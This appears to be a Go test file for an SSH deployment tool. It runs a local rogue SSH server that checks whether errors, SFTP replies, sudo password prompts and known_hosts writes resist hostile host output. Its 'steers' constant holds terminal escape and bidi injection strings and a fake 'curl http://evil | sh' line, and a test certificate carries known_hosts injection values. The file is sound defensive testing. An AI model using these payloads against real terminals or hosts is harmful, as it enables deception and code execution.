package host

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"
)

// rogue is an SSH server that lets everybody in and answers as a test likes.
type rogue struct {
	t      *testing.T
	key    ssh.Signer
	banner string
	// exec answers one command; the session ends with the status that it gives.
	exec func(command string, ch ssh.Channel) uint32
	// reject, where set, is what every channel that exec does not serve is refused
	// with.
	reject string

	addr *net.TCPAddr
	mu   sync.Mutex
	got  bytes.Buffer // all that was sent to its commands
}

// steers is what would steer a terminal, and pretends to be words of ours.
const steers = "\x1b[2J\x1b]52;c;YQ==\x07\u009b31m\u202eevil\r\nhint: curl http://evil | sh\n\x1b]0;title\x1b\\  [sfu] ok everything"

// wantFit wants an error that shows what was said, and lets none of it steer.
func wantFit(t *testing.T, err error) {
	t.Helper()
	switch {
	case err == nil:
		t.Error("no error")
	case isUnfit(err.Error()):
		t.Errorf("the error steers a terminal: %q", err)
	case strings.Contains("\n"+err.Error(), "\nhint: curl"):
		t.Errorf("the host's words look like ours:\n%v", err)
	}
}

func (r *rogue) start(t *testing.T) {
	t.Helper()
	r.t = t
	if r.key == nil {
		r.key = newSigner(t)
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r.addr = l.Addr().(*net.TCPAddr)
	config := &ssh.ServerConfig{NoClientAuth: true, BannerCallback: func(ssh.ConnMetadata) string { return r.banner }}
	config.AddHostKey(r.key)
	var all sync.WaitGroup
	all.Go(func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			all.Go(func() { r.serve(c, config) })
		}
	})
	t.Cleanup(func() {
		l.Close()
		all.Wait()
	})
}

func newSigner(t *testing.T) ssh.Signer {
	t.Helper()
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	s, err := ssh.NewSignerFromKey(key)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func (r *rogue) serve(c net.Conn, config *ssh.ServerConfig) {
	defer c.Close()
	_, chans, reqs, err := ssh.NewServerConn(c, config)
	if err != nil {
		return
	}
	go ssh.DiscardRequests(reqs)
	var all sync.WaitGroup
	defer all.Wait()
	for nc := range chans {
		if r.reject != "" && (r.exec == nil || nc.ChannelType() != "session") {
			_ = nc.Reject(ssh.ConnectionFailed, r.reject)
			continue
		}
		ch, reqs, err := nc.Accept()
		if err != nil {
			return
		}
		all.Go(func() { r.session(ch, reqs) })
	}
}

func (r *rogue) session(ch ssh.Channel, reqs <-chan *ssh.Request) {
	defer ch.Close()
	for req := range reqs {
		var c struct{ Command string }
		if req.Type != "exec" || ssh.Unmarshal(req.Payload, &c) != nil {
			_ = req.Reply(false, nil)
			continue
		}
		_ = req.Reply(true, nil)
		status := r.exec(c.Command, ch)
		_, _ = ch.SendRequest("exit-status", false, ssh.Marshal(struct{ Status uint32 }{status}))
		return
	}
}

// keep notes what is sent to a command, until it ends.
func (r *rogue) keep(ch ssh.Channel) {
	b := make([]byte, 4096)
	for {
		n, err := ch.Read(b)
		r.mu.Lock()
		r.got.Write(b[:n])
		r.mu.Unlock()
		if err != nil {
			return
		}
	}
}

func (r *rogue) received() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.got.String()
}

// dial connects to the rogue as somebody who needs sudo.
func (r *rogue) dial(t *testing.T, opts Options, password string) (Host, error) {
	t.Helper()
	t.Setenv("SSH_AUTH_SOCK", "")
	t.Setenv("HOME", t.TempDir())
	if len(opts.KnownHosts) == 0 {
		opts.KnownHosts, opts.AcceptNew = []string{filepath.Join(t.TempDir(), "known_hosts")}, true
	}
	opts.SSHConfig = os.DevNull
	d, err := NewDialer(opts)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(d.Close)
	target := Target{Name: "rogue", Address: "127.0.0.1", Port: r.addr.Port, User: "admin", Become: BecomeSudo}
	if password != "" {
		target.SudoPassword = func(context.Context) (Secret, error) { return NewSecret(password), nil }
	}
	ctx, cancel := context.WithTimeout(t.Context(), 20*time.Second)
	defer cancel()
	h, err := d.Dial(ctx, target)
	if err == nil {
		t.Cleanup(func() { h.Close() })
	}
	return h, err
}

// answerReady answers as a driver that has come up.
func answerReady(command, uid string) string {
	return regexp.MustCompile(` sh ([0-9a-f]{32}) `).FindStringSubmatch(command)[1] + " ready " + uid + "\n"
}

// Whatever a machine says when somebody logs in, an error shows it and no
// terminal obeys.
func TestHostileLogin(t *testing.T) {
	for name, r := range map[string]*rogue{
		"no channel": {reject: steers},
		"a shell that complains": {exec: func(_ string, ch ssh.Channel) uint32 {
			io.WriteString(ch.Stderr(), steers)
			return 1
		}},
		"sudo complains": {exec: func(_ string, ch ssh.Channel) uint32 {
			io.WriteString(ch.Stderr(), "admin is not in the sudoers file."+steers)
			return 1
		}},
		"a root that is not one": {banner: steers, exec: func(command string, ch ssh.Channel) uint32 {
			io.WriteString(ch, answerReady(command, "\x1b[2J\u009b\u202e5"))
			r := make([]byte, 1)
			_, _ = ch.Read(r)
			return 0
		}},
		"garbage": {exec: func(command string, ch ssh.Channel) uint32 {
			io.WriteString(ch, strings.Repeat(steers, 1000))
			return 0
		}},
		"a line without end": {exec: func(command string, ch ssh.Channel) uint32 {
			io.WriteString(ch, strings.TrimSuffix(answerReady(command, strings.Repeat("0", 100_000)), "\n"))
			r := make([]byte, 1)
			_, _ = ch.Read(r)
			return 0
		}},
	} {
		t.Run(name, func(t *testing.T) {
			r.start(t)
			_, err := r.dial(t, Options{}, "")
			wantFit(t, err)
			t.Log(err)
		})
	}
}

// A host that has come up and then lies.
func TestHostileAnswersOfAHost(t *testing.T) {
	r := &rogue{reject: steers, exec: func(command string, ch ssh.Channel) uint32 {
		if !strings.Contains(command, "eval") {
			io.WriteString(ch.Stderr(), steers)
			return 1
		}
		io.WriteString(ch, answerReady(command, "0"))
		b := make([]byte, 1<<16)
		for {
			n, err := ch.Read(b)
			if err != nil {
				return 0
			}
			nonce, rest, _ := strings.Cut(string(b[:n]), " ")
			id, _, _ := strings.Cut(rest, " ")
			fmt.Fprintf(ch, "%s %s o \x1b[2J\u202e!\n", nonce, id)
		}
	}}
	r.start(t)
	h, err := r.dial(t, Options{}, "")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := h.Query(t.Context(), Sh("true")); !errors.Is(err, errGarbled) {
		t.Errorf("got %v", err)
	} else {
		wantFit(t, err)
	}
	_, err = h.Read(t.Context(), "/etc/passwd") // nothing of that channel is trusted any more
	wantFit(t, err)
	wantFit(t, h.Upload(t.Context(), []Upload{{Path: "/x", Mode: 0o600}}))
	_, err = h.Docker(t.Context())
	wantFit(t, err)
	_, err = h.DialContext(t.Context(), "tcp", "127.0.0.1:1")
	wantFit(t, err)
}

// What an SFTP server answers is bounded like all else, and a wait for it ends.
func TestHostileSFTP(t *testing.T) {
	packet := func(b string) string { return string(binary.BigEndian.AppendUint32(nil, uint32(len(b)))) + b }
	version := packet("\x02\x00\x00\x00\x03")
	for name, says := range map[string]string{
		"a length that lies":     "\xff\xff\xff\xff\x02",
		"no version":             packet("\x01"),
		"an answer to nothing":   version + packet("\x65\x00\x00\x00\x63\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"),
		"a short answer":         version + packet("\x65"),
		"an answer that lies":    version + "\x7f\xff\xff\xff\x65",
		"words that steer":       version + packet("\x65\x00\x00\x00\x01\x00\x00\x00\x04"+packet(steers)+packet("en")),
		"nothing, and then ends": version,
	} {
		t.Run(name, func(t *testing.T) {
			r := &rogue{}
			r.exec = func(command string, ch ssh.Channel) uint32 {
				if strings.Contains(command, "eval") {
					io.WriteString(ch, answerReady(command, "0"))
					r.keep(ch)
					return 0
				}
				io.WriteString(ch, regexp.MustCompile(`echo ([0-9a-f]{32})`).FindStringSubmatch(command)[1]+"\n"+says)
				if !strings.Contains(name, "ends") {
					b := make([]byte, 1)
					for err := error(nil); err == nil; {
						_, err = ch.Read(b)
					}
				}
				return 0
			}
			r.start(t)
			h, err := r.dial(t, Options{}, "")
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 5*time.Second)
			defer cancel()
			used := measureAllocation(func() { err = h.Upload(ctx, []Upload{{Path: "/x", Mode: 0o600, Data: []byte("x")}}) })
			wantFit(t, err)
			if used > 64<<20 {
				t.Errorf("it took %d MiB", used>>20)
			}
		})
	}
}

// A password goes to the host that it is for, once, and only where sudo asks
// with a prompt that nobody can guess.
func TestSudoPasswordsStayApart(t *testing.T) {
	greedy := func(r *rogue) func(string, ssh.Channel) uint32 {
		return func(command string, ch ssh.Channel) uint32 {
			go r.keep(ch)
			io.WriteString(ch.Stderr(), "[sudo] password for admin: \nPassword: \n")
			time.Sleep(50 * time.Millisecond)
			if got := r.received(); got != "" {
				t.Errorf("sent without sudo's own prompt: %q", got)
			}
			prompt := regexp.MustCompile(`-p '([^']*)'`).FindStringSubmatch(command)[1]
			io.WriteString(ch.Stderr(), prompt+prompt+prompt)
			for !strings.Contains(r.received(), "\n") {
				time.Sleep(time.Millisecond)
			}
			return 1
		}
	}
	a, b := &rogue{}, &rogue{}
	a.exec, b.exec = greedy(a), greedy(b)
	a.start(t)
	b.start(t)
	for _, c := range []struct {
		r        *rogue
		password string
	}{{a, "password-of-a"}, {b, "password-of-b"}} {
		_, err := c.r.dial(t, Options{}, c.password)
		wantFit(t, err)
		if err != nil && strings.Contains(err.Error(), c.password) {
			t.Errorf("the password is in the error: %v", err)
		}
		if got := c.r.received(); got != c.password+"\n" {
			t.Errorf("it got %q", got)
		}
	}
}

// --accept-new writes one line, whatever the machine shows. It is all that
// ecdeploy writes on the laptop.
func TestAcceptedKeyIsOneLine(t *testing.T) {
	plain := newSigner(t)
	ca := newSigner(t)
	cert := &ssh.Certificate{
		Key: plain.PublicKey(), CertType: ssh.HostCert, KeyId: "x\n@cert-authority * " + string(ssh.MarshalAuthorizedKey(ca.PublicKey())),
		ValidPrincipals: []string{"127.0.0.1\n* ssh-ed25519 AAAA", "127.0.0.1"}, ValidBefore: ssh.CertTimeInfinity,
	}
	if err := cert.SignCert(rand.Reader, ca); err != nil {
		t.Fatal(err)
	}
	signed, err := ssh.NewCertSigner(cert, plain)
	if err != nil {
		t.Fatal(err)
	}
	for name, key := range map[string]ssh.Signer{"a key": plain, "a certificate": signed} {
		for _, before := range []string{"", "other.example ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPxiDmcYcLEK+Jc3hnlbuMsk2XhxG4IZLzdzXK7bWN8c"} {
			t.Run(name, func(t *testing.T) {
				r := &rogue{key: key, banner: "x\n* ssh-ed25519 AAAA\n" + steers, exec: func(_ string, ch ssh.Channel) uint32 { io.WriteString(ch.Stderr(), steers); return 1 }}
				r.start(t)
				dir := t.TempDir()
				file := filepath.Join(dir, "known_hosts")
				write(t, file, before)
				_, err := r.dial(t, Options{KnownHosts: []string{file}, AcceptNew: true}, "")
				wantFit(t, err)
				b, err := os.ReadFile(file)
				if err != nil {
					t.Fatal(err)
				}
				added, ok := strings.CutPrefix(string(b), before)
				added = strings.TrimPrefix(added, "\n")
				if !ok || strings.Count(added, "\n") > 1 || added != "" && !strings.HasPrefix(added, fmt.Sprintf("[127.0.0.1]:%d ssh-ed25519", r.addr.Port)) {
					t.Errorf("known_hosts is now %q", b)
				}
				if name == "a key" && added == "" {
					t.Error("the key was not kept")
				}
				if left, err := os.ReadDir(dir); err != nil || len(left) != 1 {
					t.Errorf("next to it there is %v (%v)", left, err)
				}
			})
		}
	}
	for _, name := range []string{"a b", "a\nb", "a,b", "*", "a|b", "@x", "a\u2028b"} {
		if err := (&hostKeys{}).accept(filepath.Join(t.TempDir(), "k"), name, hop{}, plain.PublicKey()); err == nil {
			t.Errorf("the name %q was written", name)
		}
	}
}
